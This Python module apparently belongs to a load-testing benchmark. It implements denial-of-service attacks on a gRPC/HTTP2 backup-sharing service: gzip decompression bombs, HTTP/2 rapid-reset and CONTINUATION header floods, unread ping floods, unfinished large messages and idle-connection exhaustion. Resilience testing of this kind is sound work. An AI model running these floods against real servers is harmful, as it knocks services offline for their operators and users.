"""What a connection can cost before any call of it is looked at. None of it needs a token."""

from __future__ import annotations

import asyncio
import itertools
import struct
from collections.abc import Awaitable, Callable, Iterator

from hpack import Encoder

from bench.grpc_client import frame
from bench.siege.attacks.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RESET,
    Http2,
    bomb,
    flood,
    hold,
    message,
)
from bench.siege.cast import Budget, Target

COUNT = "/backupsharing.v2.BackupSharingService/CountSharings"
SHARE = "/backupsharing.v2.BackupSharingService/ShareBackup"
MULTIPLEX = "/multiplex.v1.MultiplexService/Multiplex"

_GZIP = (("grpc-encoding", "gzip"),)
_CANCEL = struct.pack(">I", 8)
_CONNECTIONS = 4


async def gzip_call(target: Target, budget: Budget) -> None:
    """One unary call after the other, each of 2 MB that inflate to 2 GiB."""
    await _bombs(target, budget, COUNT)


async def gzip_stream(target: Target, budget: Budget) -> None:
    """The same as the first message of a stream."""
    await _bombs(target, budget, MULTIPLEX)


async def _bombs(target: Target, budget: Budget, path: str) -> None:
    packed = message(bomb(budget.scaled(2048)), compressed=True)
    while not budget.is_over:
        connection = await Http2.open(target.grpc, budget)
        try:
            stream = await connection.begin(path, _GZIP)
            await connection.data(stream, packed, end=True)
            await connection.ended.wait()
        finally:
            connection.close()


async def unread_pings(target: Target, budget: Budget) -> None:
    """Pings whose answers are never read."""
    ping = frame(PING, 0, 0, b"siege!!!")
    await _all(target, budget, lambda c: flood(c, itertools.repeat(ping), budget), connections=1)


async def unfinished_messages(target: Target, budget: Budget) -> None:
    """A hundred messages of 4 MiB that lack their last byte."""
    connection = await Http2.open(target.grpc, budget)
    whole = 4 * 2**20 - 5
    started = message(bytes(whole - 1), length=whole)

    async def one() -> None:
        await connection.data(await connection.begin(SHARE), started)

    async with asyncio.TaskGroup() as group:
        for _ in range(100):
            group.create_task(one())
    await hold(budget)


async def rapid_resets(target: Target, budget: Budget) -> None:
    """Calls that are cancelled as soon as they were made."""

    def calls(connection: Http2) -> Iterator[bytes]:
        for _ in itertools.count():
            stream = connection.next_stream()
            head = frame(HEADERS, END_HEADERS, stream, connection.headers(COUNT))
            yield head + frame(DATA, END_STREAM, stream, message(b"")) + frame(RESET, 0, stream, _CANCEL)

    await _all(target, budget, lambda c: flood(c, calls(c), budget), reads=True)


async def endless_headers(target: Target, budget: Budget) -> None:
    """Header blocks that never end."""
    encoder = Encoder()
    encoder.header_table_size = 0
    block = encoder.encode([(f"x-{number}", "v" * 8000) for number in range(2)], huffman=False)

    def frames(connection: Http2) -> Iterator[bytes]:
        stream = connection.next_stream()
        yield frame(HEADERS, 0, stream, connection.headers(COUNT))
        yield from itertools.repeat(frame(CONTINUATION, 0, stream, block))

    await _all(target, budget, lambda c: flood(c, frames(c), budget), reads=True)


async def idle_connections(target: Target, budget: Budget) -> None:
    """Connections that say nothing, to server and gateway, more than they have descriptors for."""
    held: list[asyncio.StreamWriter] = []
    for address in (target.rest, target.grpc) * 300:
        host, _, port = address.rpartition(":")
        try:
            async with asyncio.timeout(0.5):
                held.append((await asyncio.open_connection(host, int(port)))[1])
            budget.tally["connected"] += 1
        except (OSError, TimeoutError):
            budget.tally["not connected"] += 1
        if budget.is_over:
            break
    await hold(budget)
    for writer in held:
        writer.close()


async def _all(
    target: Target,
    budget: Budget,
    attack: Callable[[Http2], Awaitable[None]],
    connections: int = _CONNECTIONS,
    *,
    reads: bool = False,
) -> None:
    """Attack over some connections at once, each again when the server hangs up; keep them to the end."""

    async def one() -> None:
        while not budget.is_over:
            connection = await Http2.open(target.grpc, budget, reads=reads)
            try:
                await attack(connection)
                await hold(budget)
            except OSError:
                budget.tally["hung up"] += 1
            finally:
                connection.close()

    async with asyncio.TaskGroup() as group:
        for _ in range(connections):
            group.create_task(one())
